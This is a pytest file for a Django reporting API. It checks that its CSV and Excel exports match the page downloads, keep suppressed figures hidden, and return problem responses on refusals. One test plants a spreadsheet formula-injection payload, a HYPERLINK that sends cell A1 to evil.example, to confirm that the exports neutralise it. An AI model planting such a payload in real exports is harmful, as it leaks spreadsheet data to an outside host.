"""Figures and organisation scores as the pages' CSV and Excel downloads, through the API: the
same bytes and file name as the page gives the same person, the same suppression, formula cells
neutralised, and refusals that stay problem details (never a CSV).

The map is tests/reports/small_world.py (West Yorkshire, QWO: 2 acute providers, so the acute
figures are suppressed for a board reader)."""

import csv
import io
import re
import zipfile

import pytest
from django.test import Client
from openpyxl import load_workbook

from assessments.models import Organisation, Role
from reports.exports import FORMATS
from tests.factories import PersonaFactory
from tests.reports import small_world

pytestmark = pytest.mark.django_db

XLSX = FORMATS["xlsx"][0]


@pytest.fixture
def small():
    round_, north, south, systems, organisations = small_world.build()
    return {"round": round_, "north": north, "systems": systems, "orgs": organisations}


def page(user, path):
    client = Client()
    client.force_login(user)
    return client.get(path)


def page_path(round_, scope, code, what, fmt):
    if scope == "nation":
        return f"/results/rounds/{round_.pk}/nation/figures.{fmt}"
    return f"/results/rounds/{round_.pk}/{scope}/{code}/{what}.{fmt}"


def csv_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def members(content: bytes) -> dict[str, bytes]:
    """A workbook's parts, without the two times openpyxl stamps on it (when it was written)."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        parts = {name: book.read(name) for name in book.namelist()}
    parts["docProps/core.xml"] = re.sub(
        rb"\d{4}-\d\d-\d\dT[\d:]+Z", b"", parts["docProps/core.xml"]
    )
    return parts


CASES = [
    # (role, where the person is, scope, code, api path, table)
    (Role.NATIONAL_ADMIN, None, "nation", None, "nation/figures/", "figures"),
    (Role.ANALYST, "north", "region", "Y63", "regions/Y63/figures/", "figures"),
    (Role.ANALYST, "north", "region", "Y63", "regions/Y63/organisation-scores/", "organisations"),
    (Role.SRO, "QWO", "system", "QWO", "systems/QWO/organisation-scores/", "organisations"),
    (Role.BOARD_READER, "QWO", "system", "QWO", "systems/QWO/figures/", "figures"),
]


@pytest.mark.parametrize("role, at, scope, code, path, what", CASES)
def test_the_csv_is_the_page_download_byte_for_byte(
    small, as_user, role, at, scope, code, path, what
):
    place = small["north"] if at == "north" else small["systems"].get(at)
    user = PersonaFactory(role=role, at=place)
    round_ = small["round"]
    expected = page(user, page_path(round_, scope, code, what, "csv"))
    assert expected.status_code == 200
    got = as_user(user, "read").get(f"/api/v1/{path}?round={round_.pk}&format=csv")
    assert got.status_code == 200
    assert got.content == expected.content
    assert got["Content-Type"] == expected["Content-Type"] == "text/csv; charset=utf-8"
    assert got["Content-Disposition"] == expected["Content-Disposition"]
    assert got["Content-Disposition"].startswith('attachment; filename="waymark-')
    assert got["X-Content-Type-Options"] == "nosniff"
    assert len(csv_rows(got.content)) > 0


@pytest.mark.parametrize("role, at, scope, code, path, what", CASES[1:3])
def test_the_workbook_is_the_page_download(small, as_user, role, at, scope, code, path, what):
    user = PersonaFactory(role=role, at=small["north"])
    round_ = small["round"]
    expected = page(user, page_path(round_, scope, code, what, "xlsx"))
    got = as_user(user, "read").get(f"/api/v1/{path}?round={round_.pk}", HTTP_ACCEPT=XLSX)
    assert got.status_code == 200
    assert got["Content-Type"] == expected["Content-Type"] == XLSX
    assert got["Content-Disposition"] == expected["Content-Disposition"]
    assert got["Content-Disposition"].endswith(f'-y63-{what}.xlsx"')
    assert members(got.content) == members(expected.content)
    book = load_workbook(io.BytesIO(got.content), read_only=True)
    assert book.sheetnames[1] == "About"


def test_accept_text_csv_chooses_the_csv_and_json_stays_the_default(small, as_user):
    client = as_user(PersonaFactory(role=Role.NATIONAL_ADMIN), "read")
    round_ = small["round"]
    by_accept = client.get(
        f"/api/v1/systems/QWO/figures/?round={round_.pk}", HTTP_ACCEPT="text/csv"
    )
    assert by_accept["Content-Type"] == "text/csv; charset=utf-8"
    assert by_accept["Content-Disposition"].endswith('-qwo-figures.csv"')
    plain = client.get(f"/api/v1/systems/QWO/figures/?round={round_.pk}")
    assert plain["Content-Type"] == "application/json"
    assert "Content-Disposition" not in plain


def test_a_suppressed_figure_stays_suppressed_in_the_csv(small, as_user):
    client = as_user(PersonaFactory(role=Role.BOARD_READER, at=small["systems"]["QWO"]), "read")
    response = client.get(f"/api/v1/systems/QWO/figures/?round={small['round'].pk}&format=csv")
    rows = csv_rows(response.content)
    acute = [r for r in rows if r["care_setting"] == "Acute" and r["measure_key"] == ""]
    assert len(acute) == 1
    assert (acute[0]["n"], acute[0]["approved"]) == ("2", "2")
    for figure in ("mean", "median", "q1", "q3", "minimum", "maximum", "mean_shown"):
        assert acute[0][figure] == ""
    assert "fewer than 5 organisations" in acute[0]["suppressed_reason"]
    providers = [r for r in rows if r["care_setting"] == "All providers" and r["measure_key"] == ""]
    assert providers[0]["mean"] == "2.55000000"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_refusals_are_problems_not_files(small, as_user, fmt):
    round_ = small["round"]
    outsider = as_user(PersonaFactory(role=Role.RESPONDENT, at=small["orgs"]["A1"]), "read")
    for path in ("systems/QWO/figures/", "regions/Y63/organisation-scores/"):
        refused = outsider.get(f"/api/v1/{path}?round={round_.pk}&format={fmt}")
        assert refused.status_code == 404
        assert refused["Content-Type"] == "application/problem+json"
        assert refused.json()["code"] == "not_found"
        assert "Content-Disposition" not in refused
    national = PersonaFactory(role=Role.NATIONAL_ADMIN)
    limited = as_user(national, "read", system=small["systems"]["QHM"])
    other = limited.get(f"/api/v1/systems/QWO/figures/?round={round_.pk}&format={fmt}")
    assert other.status_code == 404 and other["Content-Type"] == "application/problem+json"
    mine = limited.get(f"/api/v1/systems/QHM/figures/?round={round_.pk}&format={fmt}")
    assert mine.status_code == 200 and "-qhm-figures." in mine["Content-Disposition"]
    nation = limited.get(f"/api/v1/nation/figures/?round={round_.pk}&format={fmt}")
    assert nation.status_code == 403 and nation.json()["status"] == 403
    no_round = as_user(national, "read").get(f"/api/v1/systems/QWO/figures/?format={fmt}")
    assert no_round.status_code == 400 and "round" in no_round.json()["errors"]


def test_an_unknown_format_is_a_clear_problem(small, as_user):
    client = as_user(PersonaFactory(role=Role.NATIONAL_ADMIN), "read")
    response = client.get(f"/api/v1/systems/QWO/figures/?round={small['round'].pk}&format=pdf")
    assert response.status_code == 400
    assert response["Content-Type"] == "application/problem+json"
    assert response.json()["errors"]["format"] == ["Unknown format 'pdf': use json, csv or xlsx."]
    refused = client.get(
        f"/api/v1/systems/QWO/figures/?round={small['round'].pk}", HTTP_ACCEPT="image/png"
    )
    assert refused.status_code == 406
    assert refused["Content-Type"] == "application/problem+json"


def test_formula_cells_are_neutralised_in_both_files(small, as_user):
    name = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    Organisation.objects.filter(pk=small["orgs"]["A1"].pk).update(name=name)
    client = as_user(PersonaFactory(role=Role.SRO, at=small["systems"]["QWO"]), "read")
    path = f"/api/v1/systems/QWO/organisation-scores/?round={small['round'].pk}"
    rows = csv_rows(client.get(path + "&format=csv").content)
    assert {r["organisation"] for r in rows if r["ods_code"] == "ZA1"} == {"'" + name}
    book = load_workbook(io.BytesIO(client.get(path + "&format=xlsx").content), read_only=True)
    cells = [c for row in book.worksheets[0].iter_rows(values_only=True) for c in row]
    assert "'" + name in cells and name not in cells


def test_the_schema_documents_both_files(api, as_user, small):
    client = as_user(PersonaFactory(role=Role.NATIONAL_ADMIN), "read")
    schema = client.get("/api/schema/?format=json").json()
    for path in (
        "/api/v1/systems/{code}/figures/",
        "/api/v1/regions/{code}/organisation-scores/",
        "/api/v1/nation/figures/",
    ):
        get = schema["paths"][path]["get"]
        assert set(get["responses"]["200"]["content"]) == {"application/json", "text/csv", XLSX}
        assert "format" in {p["name"] for p in get["parameters"]}


@pytest.mark.parametrize("path", ["/api/v1/systems/", "/api/v1/regions/", "/api/v1/rounds/"])
def test_an_unknown_format_anywhere_is_the_same_clear_problem(small, as_user, path):
    client = as_user(PersonaFactory(role=Role.NATIONAL_ADMIN), "read")
    response = client.get(f"{path}?format=csv")
    assert response.status_code == 400
    assert response["Content-Type"] == "application/problem+json"
    assert response.json()["errors"]["format"] == ["Unknown format 'csv': use json."]
